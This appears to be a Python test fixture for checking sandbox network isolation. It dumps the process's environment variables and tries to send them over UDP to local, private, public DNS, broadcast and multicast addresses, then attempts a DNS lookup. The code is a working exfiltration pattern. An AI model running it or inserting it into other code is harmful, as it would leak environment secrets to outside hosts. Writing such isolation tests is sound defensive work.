import os
import socket

import right

data = repr(dict(os.environ)).encode()[:1000]
for place in ("127.0.0.1", "10.0.2.2", "172.17.0.1", "192.168.1.1", "8.8.8.8", "255.255.255.255", "224.0.0.251"):
    for port in (@PORT_UDP@, 53, 5353):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            try:
                out.sendto(data, (place, port))
                print("dicoba:", place, port)
            except OSError as error:
                print("dicoba:", place, port, error)
try:
    print("BOCOR:", socket.getaddrinfo("contoh.id", 80))
except OSError as error:
    print("dicoba:", error)
right.main()
